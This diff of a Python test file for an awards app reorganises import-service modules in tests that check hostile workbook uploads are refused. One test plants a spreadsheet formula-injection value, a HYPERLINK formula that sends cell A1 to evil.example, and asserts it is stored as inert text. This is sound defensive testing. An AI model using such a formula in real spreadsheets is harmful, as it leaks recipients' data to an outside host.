@@ -201,9 +201,10 @@ def test_the_workbook_is_opened_once(monkeypatch):
 
 
 def test_an_honest_template_is_far_from_every_limit(app, world):
-    from awards_app.services import imports
+    from awards_app.services.imports import judges as judge_imports
+    from awards_app.services.imports import nominations as nomination_imports
 
-    for template in (imports.judges_template(), imports.nominations_template(world.edition)):
+    for template in (judge_imports.judges_template(), nomination_imports.nominations_template(world.edition)):
         archive = zipfile.ZipFile(io.BytesIO(template))
         unpacked = sum(i.file_size for i in archive.infolist())
         assert unpacked < spreadsheets.MAX_UNPACKED_BYTES / 50
@@ -231,19 +232,21 @@ def offline_round(world):
 
 @pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
 def test_every_workbook_upload_refuses_it_and_changes_nothing(app, world, offline_round, make):
-    from awards_app.services import imports
+    from awards_app.services.imports import judges as judge_imports
+    from awards_app.services.imports import nominations as nomination_imports
+    from awards_app.services.imports import scores as score_imports
 
     uploads = [
         (
             world.secretariat,
             f"/secretariat/editions/{world.edition.id}/import",
-            imports.nominations_template(world.edition),
+            nomination_imports.nominations_template(world.edition),
         ),
-        (world.secretariat, "/secretariat/people/import", imports.judges_template()),
+        (world.secretariat, "/secretariat/people/import", judge_imports.judges_template()),
         (
             world.judge,
             f"/judging/rounds/{offline_round.id}/offline",
-            imports.score_workbook(world.judge, offline_round),
+            score_imports.score_workbook(world.judge, offline_round),
         ),
     ]
     before = (count(Nomination), count(User), count(AuditEvent))
@@ -261,20 +264,20 @@ def test_every_workbook_upload_refuses_it_and_changes_nothing(app, world, offlin
 
 
 def test_the_offline_score_sheet_keeps_an_applicant_s_formula_as_text(app, world, db):
-    from awards_app.services import imports
+    from awards_app.services.imports import scores as score_imports
 
     round_ = judging_round(world)
     criteria(round_, world.project)
     hostile = eligible(world, '=HYPERLINK("http://evil.example/?"&A1,"Open the evidence")')
     assign(round_, hostile, world.judge, declared=True)
-    book = load_workbook(io.BytesIO(imports.score_workbook(world.judge, round_)))
+    book = load_workbook(io.BytesIO(score_imports.score_workbook(world.judge, round_)))
     sheet = book[book.sheetnames[1]]
     titles = [cell for cell in sheet["B"] if cell.value and str(cell.value).startswith("=")]
     assert [c.value for c in titles] == [hostile.title]
     assert all(c.data_type == "s" and c.quotePrefix for c in titles)
     # What the file holds: a string cell with Excel's quote prefix, never a <f> formula element.
     raw = (
-        zipfile.ZipFile(io.BytesIO(imports.score_workbook(world.judge, round_)))
+        zipfile.ZipFile(io.BytesIO(score_imports.score_workbook(world.judge, round_)))
         .read("xl/worksheets/sheet2.xml")
         .decode()
     )
